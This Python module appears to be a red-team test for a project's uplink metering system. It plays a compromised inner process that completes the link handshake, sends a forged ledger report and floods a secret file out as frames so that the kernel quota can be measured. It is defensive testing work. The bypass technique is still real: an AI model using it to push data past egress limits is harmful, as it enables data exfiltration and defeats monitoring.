"""Attack 1, meter bypass: an inner process that writes the uplink socket itself.

Run as its own process (`python -m uplimit.redteam.flood ...`), inside a kernel meter's
namespace when there is one, so the kernel quota is what it meets. It does the handshake as a
real inner would (answers the challenge with the link's secret, which a compromised inner host
holds; reads HELLO, answers accept with the outer's fingerprint digest), then writes the
secret as length-prefixed frames as fast as the socket takes them, with no ledger and no
ticks. Prints `sent N`: payload bytes the kernel accepted from it.
"""

from __future__ import annotations

import socket
import sys
from pathlib import Path

from uplimit.link.auth import (
    CHALLENGE_BYTES,
    CHALLENGE_MAGIC,
    inner_proof,
    load_secret,
    new_nonce,
)
from uplimit.wire.protocol import MAX_CHARGED_BYTES, Accept, Frame, LedgerReport, encode_uplink


def _read(sock: socket.socket, n: int) -> bytes:
    data = b""
    while len(data) < n and (more := sock.recv(n - len(data))):
        data += more
    return data


def flood(
    host: str,
    ports: tuple[int, int],
    link_secret: bytes,
    digest: bytes,
    secret: bytes,
    chunk: int,
) -> int:
    down = socket.create_connection((host, ports[0]), timeout=10)
    nonce_o = _read(down, CHALLENGE_BYTES)[len(CHALLENGE_MAGIC) :]
    up = socket.create_connection((host, ports[1]), timeout=10)
    nonce_i = new_nonce()
    up.sendall(nonce_i + inner_proof(link_secret, nonce_o, nonce_i))
    down.recv(1 << 16)  # the outer's proof, preamble and HELLO: the link is this process's
    up.settimeout(3)  # past the kernel quota nothing is acknowledged: the buffer stays full
    sent = 0
    try:
        up.sendall(encode_uplink(Accept(digest)))
        # The ledger report is the inner's claim: a bypass claims whatever passes the check.
        up.sendall(encode_uplink(LedgerReport(bytes(16), MAX_CHARGED_BYTES, True)))
        for i in range(0, len(secret), chunk):
            up.sendall(encode_uplink(Frame(secret[i : i + chunk])))
            sent += min(chunk, len(secret) - i)
    except OSError:
        pass
    finally:
        up.close()
        down.close()
    return sent


def main(argv: list[str]) -> None:
    host, dport, uport, link_secret_path, digest_hex, secret_path, chunk = argv
    link_secret = load_secret(link_secret_path)
    secret = Path(secret_path).read_bytes()
    digest = bytes.fromhex(digest_hex)
    sent = flood(host, (int(dport), int(uport)), link_secret, digest, secret, int(chunk))
    print("sent", sent, flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
